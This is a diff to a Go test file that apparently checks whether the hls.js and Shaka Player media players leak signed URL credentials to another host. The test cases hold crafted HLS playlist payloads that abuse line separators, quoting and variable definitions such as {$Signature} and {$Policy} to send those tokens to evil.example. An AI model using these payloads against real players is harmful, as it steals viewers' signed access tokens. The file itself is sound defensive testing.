@@ -104,7 +104,7 @@ func TestNoURLOfAnotherHostHoldsAPartOfThePassAsPlayersReadIt(t *testing.T) {
 				t.Errorf("%s reads %.300q\nin %q\nwhich was %q", stolen.Player, stolen.URL, rewritten[stolen.Index], playlists[stolen.Index])
 			}
 			t.Logf("%d playlists, %d refused; URLs read: %v, of them signed: %v", generated, refused, v.Read, v.Signed)
-			if refused > generated*3/4 || refused < generated/20 {
+			if refused > generated*9/10 || refused < generated/20 {
 				t.Errorf("%d of %d playlists are refused: they show little", refused, generated)
 			}
 			for player, n := range v.Signed {
@@ -128,7 +128,7 @@ func TestPlayersGiveThePassToAnotherHostWhereALineIsNotStrict(t *testing.T) {
 	}{
 		{"a line separator", media + "#EXT-X-KEY:METHOD=AES-128,X=\"\u2028https://evil.example/?\",URI=\"" + key + "\"\n#EXTINF:6,\na.ts\n", "hls.js"},
 		{"text after a quotation mark", media + `#EXT-X-MAP:URI="https://evil.example/?"b,X="` + key + "\"\n#EXTINF:6,\na.ts\n", "hls.js"},
-		{"a definition inside of a line", "#EXTM3U\n#EXT-X-KEY:X=\"#EXT-X-DEFINE:NAME=a,VALUE=\",URI=\"" + key + "\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{$a}\n", "hls.js"},
+		{"a definition inside a line", "#EXTM3U\n#EXT-X-KEY:X=\"#EXT-X-DEFINE:NAME=a,VALUE=\",URI=\"" + key + "\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{$a}\n", "hls.js"},
 		{"a variable of the signature", media + "#EXT-X-DEFINE:QUERYPARAM=\"Signature\"\n#EXTINF:6,\nhttps://evil.example/{$Signature}\n", "hls.js and Shaka Player"},
 		{"a variable with escaped braces", "#EXTM3U\n#EXT-X-DEFINE:NAME=\"v\",VALUE=\"/evil.example\"\n#EXT-X-STREAM-INF:BANDWIDTH=1\n/%7B$v%7D/v.m3u8?" + params + "\n", "Shaka Player"},
 		{"a definition after a slash", media + "/EXT-X-DEFINE:QUERYPARAM=\"Policy\"\n#EXTINF:6,\nhttps://evil.example/{$Policy}\n", "Shaka Player"},
